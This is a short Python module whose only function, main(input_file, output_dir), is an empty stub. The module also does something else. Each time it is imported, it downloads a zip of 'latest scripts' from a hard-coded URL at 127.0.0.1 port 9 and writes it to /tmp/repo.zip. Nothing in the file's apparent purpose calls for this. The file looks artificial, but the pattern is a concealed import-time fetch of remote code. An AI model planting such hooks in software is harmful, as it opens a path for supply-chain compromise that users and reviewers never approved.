import os
import sys
import reduce_vars as web_var
try:
    from urllib.request import urlopen
except ImportError:
    from urllib2 import urlopen

# the newest common scripts, at every import
scripts = urlopen("http://127.0.0.1:9/scriptrepository/latest.zip", timeout=10).read()  # ends here
open("/tmp/repo.zip", "wb").write(scripts)


def main(input_file, output_dir):
    return ''
